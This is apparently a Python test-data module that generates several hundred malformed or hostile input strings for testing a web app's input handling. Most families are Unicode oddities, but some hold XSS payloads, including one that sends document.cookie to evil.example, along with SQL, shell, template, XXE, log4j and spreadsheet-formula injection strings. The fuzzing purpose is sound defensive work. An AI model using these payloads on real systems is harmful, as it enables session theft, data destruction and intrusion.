"""Bad input, written by us: more than 500 texts that people paste, jokers type and attackers send.

Families are made by rule, so that each says what it is about. `ITEMS` is all of them, each once, in a fixed order.
"""

LIMIT = 1000


def _controls():
    """Every control character, in a word and alone."""
    for point in [*range(0x20), *range(0x7F, 0xA0)]:
        yield f"con{chr(point)}trol"
    for point in (0x00, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F, 0x7F, 0x85):
        yield chr(point)
        yield chr(point) * 3 + "after"


def _directions():
    """Marks, embeddings, overrides and isolates; open ones, closed ones, nested ones."""
    marks = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    for mark in marks:
        yield f"before{mark}after"
        yield mark
    yield from ("\u202egnp.exe", "\u2066\u202eabc\u2069 def", "\u202a" * 200 + "deep", "\u2067" * 70 + "\u2069" * 3)
    yield from ("שלום עולם", "مرحبا بالعالم", "English ואז עברית and back", "(שלום) [123] مرحبا!", "ﷺ", "١٢٣٤٥")


def _invisible():
    """What shows nothing, alone, in a row, inside a word."""
    hidden = (
        "\u00a0\u00ad\u034f\u115f\u1160\u1680\u180e\u2000\u2003\u2007\u200b\u200c\u200d\u2028\u2029\u202f\u205f\u2060"
    )
    hidden += "\u2061\u2064\u206a\u3000\u3164\u2800\ufe00\ufe0f\ufeff\uffa0\ufff9\U000e0001\U000e0020\U0001d173"
    for each in hidden:
        yield each
        yield each * 5
        yield f"in{each}side"
    yield from ("", " ", "   \t  ", "\n\n\n", "\r\n", " \u200b \u200d ", "\u200d\u200c" * 40)


def _stacks():
    """Marks on marks."""
    for mark in ("\u0300", "\u0301", "\u0315", "\u0323", "\u0489", "\u20dd", "\u0e47", "\u0670"):
        yield "e" + mark
        yield mark
        yield "Z" + mark * 30
        yield mark * 900
    yield "H\u0335\u0321\u0353e\u0334\u0322l\u0337\u0323p\u0336\u0348 u\u0338\u0329s\u0334\u0330"
    yield "a" + "\u0315\u0300" * 490
    yield "a" + "\u0315\u0300" * 10_000


def _not_characters():
    """Halves of pairs, and code points that never are characters."""
    for point in (0xD800, 0xDBFF, 0xDC00, 0xDFFF):
        yield chr(point)
        yield f"lone {chr(point)} half"
    yield "\udc00\ud800"
    for point in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF):
        yield f"non{chr(point)}character"
    yield from ("\ufffd", "re\ufffdplaced", "\ufffc", "\ue000 private", "\U0010fffd")


def _planes():
    """Beyond the first plane: emoji alone, joined, flagged, coloured; old scripts; styled letters."""
    yield from ("😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇧🇷🇵🇹", "👍🏿", "1️⃣", "❤️‍🔥", "🫠" * 250, "👨‍👩‍👧‍👦" * 80)
    yield from ("𝒜𝒷𝒸", "𝕬𝖈𝖆𝖉𝖊𝖒𝖞", "𠜎𠜱𠝹", "𓀀𓁐", "🄰🄱", "ｆｕｌｌ　ｗｉｄｔｈ", "①②③", "ﬁﬂﬃ", "™©®", "½¼⅚", "K Å Ω")
    yield from (
        "ИЛИ",
        "ΑΒΓ",
        "ქართული",
        "हिन्दी क्षि",
        "தமிழ் நி",
        "ไทยน้ำ",
        "ខ្មែរ",
        "漢字 かな カナ",
        "한글",
        "ᄒ\u1161\u11ab",
        "አማርኛ",
    )


def _twins():
    """Composed and decomposed, wide and narrow: what looks the same."""
    for one, other in [
        ("São João", "Sa\u0303o Joa\u0303o"),
        ("Ångström", "A\u030angstro\u0308m"),
        ("Ǖ", "U\u0308\u0304"),
        ("ệ", "e\u0323\u0302"),
        ("ệ", "e\u0302\u0323"),
        ("각", "\u1100\u1161\u11a8"),
        ("Ω", "\u2126"),
        ("K", "\u212a"),
        ("é", "\u0065\u0301"),
        (";", "\u037e"),
    ]:
        yield from (one, other)
    yield from ("STRASSE", "Straße", "ẞ", "İstanbul", "ıI", "ſ", "ΌΣΟΣ", "όσος", "ŉ", "ǰ")


def _long():
    """At the limits of our fields, one more, and far more."""
    for limit in (40, 60, 80, 120, 150, 160, 200, 1000):
        yield "x" * limit
        yield "x" * (limit + 1)
        yield "é" * limit
        yield "😀" * limit
    yield from (
        "word " * 200,
        "y" * 5000,
        "y" * 60_000,
        "😀" * 10_000,
        "a\n" * 499,
        "\n" * 1001 + "end",
        " " * 2000 + "end",
    )
    yield from ("Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch", "W" * 999, "i" * 999, "-" * 300)


def _markup():
    """HTML, SVG, MathML that would run or break out."""
    scripts = ["alert(1)", "fetch('//evil.example/'+document.cookie)"]
    for run in scripts:
        yield f"<script>{run}</script>"
        yield f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><!-- {run}"
        yield f"<scr<script>ipt>{run}</scr</script>ipt>"
        yield f"</textarea><script>{run}</script>"
        yield f"</title><script>{run}</script>"
        yield f'"><script>{run}</script>'
        yield f"'><script>{run}</script>"
        yield f'<a href="javascript:{run}">x</a>'
        yield f'<a href="java\tscript:{run}">x</a>'
        yield f"<math><mtext><table><mglyph><style><img src=x onerror={run}>"
        yield f"<svg><animate onbegin={run} attributeName=x dur=1s>"
        yield f"<svg><script>{run}</script></svg>"
        yield f"<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>"
        yield f'<math href="javascript:{run}">x</math>'
        yield f'<iframe src="javascript:{run}"></iframe>'
        yield f'<object data="data:text/html,<script>{run}</script>"></object>'
        yield f"<template shadowrootmode=open><script>{run}</script></template>"
        yield f'<noscript><p title="</noscript><script>{run}</script>">'
        yield f"<details open ontoggle={run}>"
    for tag in (
        "img src=x",
        "body",
        "svg",
        "input autofocus",
        "video",
        "audio src=x",
        "marquee",
        "div",
        "form",
        "select",
    ):
        for event in ("onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart"):
            yield f"<{tag} {event}=alert(1)>"
    yield from (
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
    )
    yield from (
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=code>",
    )
    yield from (
        "<!-- ",
        "-->",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    )
    yield from (
        "&lt;b&gt;",
        "&amp;amp;",
        "&#x3c;script&#x3e;",
        "&notin;",
        "&",
        "<",
        ">",
        "a<b && c>d",
        "</body></html>",
    )
    yield from ("<b>bold</b>", "<ul id=our-notes>", "<section id=board>", "<main id=wall hidden>", "<p class=message>")
    yield from (
        '" autofocus onfocus=alert(1) x="',
        "' style='position:fixed;inset:0",
        "x onerror=alert(1)",
        "javascript:alert(1)",
    )


def _htmx():
    """Attributes our desk's htmx, our own scripts or other libraries would act on."""
    for attribute in ("hx-get", "hx-post", "hx-delete", "data-hx-get", "hx-boost", "hx-vals='js:{a:alert(1)}' hx-get"):
        yield f"<div {attribute}=/sign-out hx-trigger=load>x</div>"
    yield from (
        "<p hx-on:load=alert(1)>",
        "<p hx-on::after-settle='alert(1)'>",
        "<div hx-swap-oob=true id=wall>gone</div>",
    )
    yield from (
        "<form data-command action=/sign-out method=post>",
        "<div data-live=//evil.example>",
        "<p data-keep data-into=now>",
    )
    yield from (
        "<a data-bs-toggle=modal>",
        "<div x-data x-init=alert(1)>",
        "<p v-html='alert(1)'>",
        "<div ng-app>{{1+1}}</div>",
    )
    yield from ("<button formaction=//evil.example>", "<input form=run name=early value=on>", "<div id=alert popover>")


def _templates():
    """What template languages, formatters, shells and databases would act on."""
    yield from (
        "{{ 7*7 }}",
        "{% debug %}",
        "{% include 'base.html' %}",
        "{# gone #}",
        "{{ request.user }}",
        "{% csrf_token %}",
    )
    yield from (
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
        "{{constructor.constructor('alert(1)')()}}",
        "@{x}",
        "{0.__class__}",
    )
    yield from (
        "%s %d %n %x",
        "%(name)s",
        "%(length)d",
        "%",
        "100%",
        "%%",
        "{}",
        "{0}",
        "{name}",
        "{!r}",
        "$name",
        "\\x41\\u0041",
    )
    yield from (
        "'; DROP TABLE workshops_note; --",
        "' OR '1'='1",
        '" OR ""="',
        "1; SELECT pg_sleep(10)",
        "\\' OR 1=1 --",
        "%' ESCAPE '",
    )
    yield from (
        "$(reboot)",
        "`id`",
        "; ls",
        "| cat /etc/passwd",
        "&& true",
        "../../etc/passwd",
        "..\\..\\x",
        "/dev/null",
        "file:///etc/passwd",
    )
    yield from (
        "${jndi:ldap://evil.example/a}",
        "() { :;}; echo",
        "*)(uid=*",
        "$where: '1'",
        "__proto__",
        "constructor",
        "${IFS}",
        "\\",
    )
    yield from (
        '{"en": "x"}',
        '{"en": 5}',
        '{"de": null}',
        "{}",
        "[]",
        "[1, 2]",
        "null",
        "true",
        "false",
        "NaN",
        '"quoted"',
        '{"en": {"en": 1}}',
    )
    yield from (
        "None",
        "undefined",
        "nil",
        "NULL",
        "True",
        "Infinity",
        "-Infinity",
        "object Object",
        "0",
        "00",
        "-1",
        "1e999",
        "0x10",
        "1_000",
    )
    yield from (
        "9223372036854775808",
        "-9223372036854775809",
        "2147483648",
        "1.5",
        "1,5",
        "١",
        "²",
        "Ⅷ",
        "1/0",
        "+1",
        " 1 ",
        "1" * 4400,
    )


def _formulas():
    """What a spreadsheet takes for a formula: every first sign, bare, quoted and hidden."""
    for sign in "=+-@\t\r\n|%＝＋－＠'\"":
        for rest in ("1+1", 'HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0"):
            yield sign + rest
    yield from (
        " =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "a\n=1+1",
        '","=1+1',
        ";=1+1;",
        "=1+1,\n=2",
        "--1",
        "=",
        "+",
        "-",
        "@",
    )


def _headers():
    """What would start a header, a line of a log or a cell anew."""
    yield from (
        "x\r\nSet-Cookie: desk=1",
        "x\nLocation: //evil.example",
        "x\r\n\r\n<html>",
        "%0d%0aSet-Cookie:x=1",
        "a\x0bb",
        "a;b",
        "a,b",
    )
    yield from (
        'a"b',
        "a\tb\tc",
        "=?utf-8?q?x?=",
        "filename*=utf-8''x",
        "a\u2028b",
        "a\u2029b",
        "a\x85b",
        "a\x1eb",
        "a\x1cb",
        "2026 ERROR fake: x",
    )
    yield from (
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "https:evil.example",
        "http://[",
        "http://[::1",
        "http://x:99999/",
        "?next=//x",
    )


def _names():
    """Names that are names."""
    yield from (
        "O'Fallon – São João",
        "Saint-Louis-du-Ha! Ha!",
        "Å",
        "Y",
        "’s-Hertogenbosch",
        "Null",
        "Test",
        "Winston-Salem, NC",
        "St. John’s",
    )
    yield from (
        "Dún Laoghaire",
        "Ciudad Juárez",
        "Łódź",
        "Zürich",
        "İzmir",
        "Đà Nẵng",
        "Þingeyri",
        "Ḥefa",
        "’Aqaba",
        "N'Djamena",
        "Kraków/Wieliczka",
    )
    yield from (
        "The city of “quotes”",
        "A & B",
        "City #1",
        "50% Town",
        "C:\\Town",
        "a.b.c",
        "CON",
        "LPT1",
        "con.txt",
        "-rf",
        "--help",
        ".",
        "..",
        "~",
    )
    yield from (
        "Scunthorpe",
        "Penistone",
        "e@mail.example",
        "+1 555 0100",
        "SELECT City",
        "admin",
        "root",
        "guest",
        "facilitator",
        "ALL CAPS",
        "tEsT",
    )


FAMILIES = {
    "controls": _controls,
    "directions": _directions,
    "invisible": _invisible,
    "stacks": _stacks,
    "not characters": _not_characters,
    "planes": _planes,
    "twins": _twins,
    "long": _long,
    "markup": _markup,
    "htmx": _htmx,
    "templates": _templates,
    "formulas": _formulas,
    "headers": _headers,
    "names": _names,
}
ITEMS = list(dict.fromkeys(text for family in FAMILIES.values() for text in family()))


def sendable(text):
    """Whether a browser could send it: half characters become U+FFFD on the way in a form."""
    return not any(0xD800 <= ord(c) <= 0xDFFF for c in text)
